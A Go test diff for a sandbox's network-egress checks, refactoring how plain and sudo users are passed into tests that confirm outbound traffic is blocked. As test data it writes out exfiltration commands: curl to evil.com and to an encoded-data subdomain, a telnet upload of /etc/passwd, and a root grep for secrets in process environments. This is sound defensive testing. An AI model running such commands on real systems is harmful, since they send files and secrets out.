@@ -204,9 +204,9 @@ func (s networks) egress(t *testing.T) {
 	b := Start(t, d, sandbox.Spec{ID: "outward", Template: s.Template})
 	o.connect(t, b)
 	t.Run("Allowed", func(t *testing.T) { o.allowed(t, b) })
-	t.Run("Refused", func(t *testing.T) { o.refused(t, b) })
+	t.Run("Refused", func(t *testing.T) { o.refused(t, b, s.users()) })
 	t.Run("Uploads", func(t *testing.T) { o.uploads(t, b) })
-	t.Run("Secrets", func(t *testing.T) { o.secrets(t, b) })
+	t.Run("Secrets", func(t *testing.T) { o.secrets(t, b, s.asRoot) })
 	t.Run("Flood", func(t *testing.T) { o.flood(t, b) })
 	t.Run("AnotherServer", func(t *testing.T) {
 		b.Client.Close()
@@ -232,7 +232,7 @@ func (o *outside) allowed(t *testing.T, b *Box) {
 	}
 }
 
-func (o *outside) refused(t *testing.T, b *Box) {
+func (o *outside) refused(t *testing.T, b *Box, users []string) {
 	for script, host := range map[string]string{
 		"curl -sS -m 20 https://evil.com/":                                              "evil.com",
 		"curl -sS -m 20 http://c2VjcmV0.data.evil.com/":                                 "c2vjcmv0.data.evil.com",
@@ -242,7 +242,7 @@ func (o *outside) refused(t *testing.T, b *Box) {
 		"curl -sS -m 20 -f http://inside.example.com/":                                  "inside.example.com",
 		"curl -sS -m 20 -f telnet://example.com:443 </etc/passwd":                       "example.com",
 	} {
-		for _, who := range []string{"", "sudo "} {
+		for _, who := range users {
 			if r := b.Sh(who + script); r.Code == 0 && strings.Contains(r.Stdout, "host=") {
 				t.Errorf("%s%s: got %+v", who, script, r)
 			}
@@ -257,7 +257,7 @@ func (o *outside) refused(t *testing.T, b *Box) {
 	if err := b.Client.WriteFile(t.Context(), "/mnt/data", "out.py", "", strings.NewReader(outScript)); err != nil {
 		t.Fatal(err)
 	}
-	for _, who := range []string{"", "sudo "} {
+	for _, who := range users {
 		if r := b.Sh(who + "python3 out.py " + outsideAddr); r.Stdout != "done\n" {
 			t.Errorf("%sout.py: got %+v, want only done", who, r)
 		}
@@ -277,7 +277,7 @@ func (o *outside) uploads(t *testing.T, b *Box) {
 	}
 }
 
-func (o *outside) secrets(t *testing.T, b *Box) {
+func (o *outside) secrets(t *testing.T, b *Box, asRoot func(string) string) {
 	if got := b.Must("echo $API_KEY"); got != o.secret.Placeholder {
 		t.Errorf("the variable holds %q", got)
 	}
@@ -287,7 +287,7 @@ func (o *outside) secrets(t *testing.T, b *Box) {
 	if got := b.Must(`curl -sS -H "X-Key: $API_KEY" https://example.com/`); !strings.HasSuffix(got, "right=false") {
 		t.Errorf("toward another host: got %q", got)
 	}
-	if got := b.Must("sudo grep -rl '" + secretPattern + "' /proc/*/environ /etc /mnt /run /tmp 2>/dev/null | wc -l"); got != "0" {
+	if got := b.Must(asRoot("sudo grep -rl '" + secretPattern + "' /proc/*/environ /etc /mnt /run /tmp 2>/dev/null | wc -l")); got != "0" {
 		t.Errorf("the value is in %s files of the sandbox", got)
 	}
 }
